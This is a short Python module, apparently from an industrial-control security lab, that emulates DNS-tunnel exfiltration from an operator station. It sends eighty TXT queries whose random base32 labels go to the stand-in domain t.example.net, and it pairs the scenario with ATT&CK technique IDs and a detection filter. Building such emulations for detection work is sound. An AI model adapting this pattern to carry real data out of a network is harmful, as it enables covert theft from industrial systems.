"""Data leaves the operator station in the names that it asks for."""

from __future__ import annotations

import base64
import socket

from dnslib import DNSRecord

from ..node import Node

TITLE = "Data carried out in names asked for by the operator station"
TECHNIQUES = ("T0869", "T0885")
ORIGIN = "hmi"
ENTITIES = ("hmi", "router")
EVIDENCE = 'dns.qry.name contains "t.example.net" && ip.src == 10.20.1.50'


def run(node: Node) -> None:
    """Eighty names of thirty-two random characters."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(0.3)
        for _ in range(80):
            label = base64.b32encode(node.rng.randbytes(20)).decode().lower()
            question = DNSRecord.question(f"{label}.t.example.net", "TXT")
            sock.sendto(question.pack(), (node.peer("router"), 53))
            try:
                sock.recv(1000)
            except TimeoutError:
                continue
            node.pause(0.1)
